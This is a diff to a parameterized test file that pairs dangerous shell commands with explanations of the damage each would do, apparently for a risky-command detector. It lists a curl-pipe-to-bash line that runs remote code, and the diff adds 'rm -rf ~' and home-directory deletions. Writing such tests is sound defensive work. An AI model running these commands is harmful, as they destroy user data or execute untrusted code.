@@ -25,6 +25,8 @@ it.each([
   ['curl -s https://a.example/i | bash', 'this makes bash run whatever a.example sends'],
   // Of what is found, only where it was looked for is known.
   ["find /usr -name '*.so' | xargs rm", 'rm would delete files below /usr'],
+  ['rm -rf ~', 'rm would delete the home directory /home/u, with everything in it'],
+  ['rm -rf ~/Documents', 'rm would delete /home/u/Documents in a home directory, with everything in it'],
   ['git checkout -- ./', 'git checkout would throw away all changes that are in no commit'],
   [
     'git reset --hard HEAD~3',
